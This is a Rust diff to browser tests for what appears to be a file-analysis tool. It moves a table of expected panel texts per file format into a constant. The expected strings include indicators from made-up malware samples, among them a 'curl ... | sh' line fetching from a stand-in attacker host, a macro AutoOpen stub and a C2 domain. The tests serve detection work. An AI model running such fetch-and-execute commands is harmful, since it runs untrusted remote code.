@@ -4,6 +4,7 @@ use assay_browser::axe;
 use assay_browser::browser::Browser;
 use assay_browser::session::Session;
 use assay_browser::world::World;
+use fantoccini::key::Key;
 use serde_json::{Value, json};
 use stand_in::Misbehaviour;
 
@@ -38,81 +39,81 @@ async fn open(page: &Session, world: &World, name: &str, at: usize) {
     .await;
 }
 
+/// What is sought in the details of each format.
+const SOUGHT: [(&str, &[&str]); 20] = [
+    (
+        "pe",
+        &[
+            "Windows program",
+            "VS2015 build 23026",
+            "UPX1",
+            "RT_STRING × 12",
+            "quill.pdb",
+        ],
+    ),
+    ("dotnet", &[".NET", "2.320.689.50176", "Types by namespace", "Wallets"]),
+    ("elf", &["ELF64", "GNU_STACK", "libpthread.so.0", "libquill_start"]),
+    ("macho", &["Mach-O", "X86_64", "ARM64", "LC_MAIN", "libSystem.B.dylib"]),
+    (
+        "apk",
+        &[
+            "com.example.quill",
+            "READ_SMS",
+            "read your text messages",
+            "BOOT_COMPLETED",
+        ],
+    ),
+    ("doc", &["Macros", "url-pattern", "Sub AutoOpen()", "End Sub"]),
+    ("docx", &["Module1.bas", "word/vbaProject.bin", "Offer"]),
+    ("pdf", &["Action on opening (/OpenAction)", "%PDF-1.7"]),
+    ("zip", &["What is inside", "3.2 : 1", "Portable Executable"]),
+    ("iso", &["ISO 9660", "CDIMAGE 2.39"]),
+    (
+        "deb",
+        &[
+            "Debian package",
+            "4.9.0-3",
+            "curl https://quillnab-panel.example.org | sh",
+        ],
+    ),
+    ("jar", &["JAR", "Main-Class: quill.Main", "quill.steal"]),
+    ("class", &["Java class", "java.lang.Runtime.exec"]),
+    ("lnk", &["Windows shortcut", "/c start invoice.exe", "desktop-quill"]),
+    (
+        "powershell",
+        &["PowerShell", "invoke-expression", "The script decodes a program."],
+    ),
+    ("swf", &["Flash (SWF)", "get-url"]),
+    (
+        "pcap",
+        &[
+            "Captured traffic",
+            "quillnab-panel[.]example[.]org",
+            "Suricata",
+            "EXE or DLL download",
+        ],
+    ),
+    (
+        "signed",
+        &["What is wrong", "Nobody Ltd: Trust", "2015-01-01 00:00 UTC"],
+    ),
+    ("known", &["Example Corp", "setup-29.exe", "SETUP.EXE"]),
+    (
+        "malware",
+        &[
+            "Settings of malware",
+            "quillnab-panel[.]example[.]org",
+            "botnet = spring",
+            "SEVERITY_HIGH",
+        ],
+    ),
+];
+
 async fn each_format_has_its_panels(browser: Browser) {
     let page = shared(browser).await;
     let world = World::served().await;
     acts::open_with_key(&page, &world).await;
-    for (at, (name, texts)) in [
-        (
-            "pe",
-            &[
-                "Windows program",
-                "VS2015 build 23026",
-                "UPX1",
-                "RT_STRING × 12",
-                "quill.pdb",
-            ][..],
-        ),
-        ("dotnet", &[".NET", "2.320.689.50176", "Types by namespace", "Wallets"]),
-        ("elf", &["ELF64", "GNU_STACK", "libpthread.so.0", "libquill_start"]),
-        ("macho", &["Mach-O", "X86_64", "ARM64", "LC_MAIN", "libSystem.B.dylib"]),
-        (
-            "apk",
-            &[
-                "com.example.quill",
-                "READ_SMS",
-                "read your text messages",
-                "BOOT_COMPLETED",
-            ],
-        ),
-        ("doc", &["Macros", "url-pattern", "Sub AutoOpen()", "End Sub"]),
-        ("docx", &["Module1.bas", "word/vbaProject.bin", "Offer"]),
-        ("pdf", &["Action on opening (/OpenAction)", "%PDF-1.7"]),
-        ("zip", &["What is inside", "3.2 : 1", "Portable Executable"]),
-        ("iso", &["ISO 9660", "CDIMAGE 2.39"]),
-        (
-            "deb",
-            &[
-                "Debian package",
-                "4.9.0-3",
-                "curl https://quillnab-panel.example.org | sh",
-            ],
-        ),
-        ("jar", &["JAR", "Main-Class: quill.Main", "quill.steal"]),
-        ("class", &["Java class", "java.lang.Runtime.exec"]),
-        ("lnk", &["Windows shortcut", "/c start invoice.exe", "desktop-quill"]),
-        (
-            "powershell",
-            &["PowerShell", "invoke-expression", "The script decodes a program."],
-        ),
-        ("swf", &["Flash (SWF)", "get-url"]),
-        (
-            "pcap",
-            &[
-                "Captured traffic",
-                "quillnab-panel[.]example[.]org",
-                "Suricata",
-                "EXE or DLL download",
-            ],
-        ),
-        (
-            "signed",
-            &["What is wrong", "Nobody Ltd: Trust", "2015-01-01 00:00 UTC"],
-        ),
-        ("known", &["Example Corp", "setup-29.exe", "SETUP.EXE"]),
-        (
-            "malware",
-            &[
-                "Settings of malware",
-                "quillnab-panel[.]example[.]org",
-                "botnet = spring",
-                "SEVERITY_HIGH",
-            ],
-        ),
-    ]
-    .into_iter()
-    .enumerate()
-    {
+    for (at, (name, texts)) in SOUGHT.into_iter().enumerate() {
         open(&page, &world, name, at).await;
         for text in texts {
             page.wait(
@@ -158,7 +159,7 @@ async fn code_opens_and_closes_by_keys(browser: Browser) {
     page.sees("x23 = \"⟨U+202E⟩\"").await;
     page.does_not_see("x24 =").await;
     page.run("called('button', 'Show all 300 lines').focus()", vec![]).await;
-    page.keys(&[fantoccini::key::Key::Enter]).await;
+    page.keys(&[Key::Enter]).await;
     page.sees("x299 = \"⟨U+202E⟩\"").await;
     page.press("Show less").await;
     page.does_not_see("x299 =").await;
